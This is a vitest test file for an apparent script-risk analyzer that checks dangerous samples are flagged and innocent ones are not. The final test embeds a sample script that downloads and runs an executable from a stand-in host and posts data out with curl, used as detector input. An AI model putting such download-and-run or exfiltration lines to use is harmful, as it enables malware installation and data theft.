import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from '../parse/parse.ts';
import { factsOf } from './facts-of.ts';
import { RISKS, type Risk } from './risk.ts';

const SAMPLES = join(import.meta.dirname, '../../tests/risks');

function risksOf(folder: string, name: string): Risk[] {
  return factsOf(parse(readFileSync(join(SAMPLES, folder, name), 'utf8')).tree).risks;
}

describe('a dangerous script is named for what it is', () => {
  test.each(readdirSync(join(SAMPLES, 'dangerous')))('%s', (name) => {
    const risks = risksOf('dangerous', name);
    expect(risks.map((risk) => risk.code)).toContain(name.split('.')[0]);
    expect(risks.every((risk) => risk.places.length > 0 && risk.message.endsWith('.'))).toBe(true);
  });
});

describe('an innocent script raises no alarm', () => {
  test.each(readdirSync(join(SAMPLES, 'innocent')))('%s', (name) => {
    expect(risksOf('innocent', name)).toEqual([]);
  });
});

test('every risk there is has a script that shows it', () => {
  const shown = new Set(readdirSync(join(SAMPLES, 'dangerous')).map((name) => name.split('.')[0]));
  expect(Object.keys(RISKS).filter((code) => !shown.has(code))).toEqual([]);
});

test('the worst risk comes first, with the places that make it', () => {
  const source = 'Download "http://x.example/a.exe", "a.exe"\nF1::Run "curl -d x=1 https://x.example"\nRun "a.exe"';
  const { risks } = factsOf(parse(source).tree);
  expect(risks.map((risk) => [risk.severity, risk.code])).toEqual([
    ['danger', 'download-run'],
    ['notice', 'data-sent'],
  ]);
  expect(risks[0]?.places.map(({ start, end }) => source.slice(start, end))).toEqual([
    'Download "http://x.example/a.exe", "a.exe"',
    'Run "a.exe"',
  ]);
});
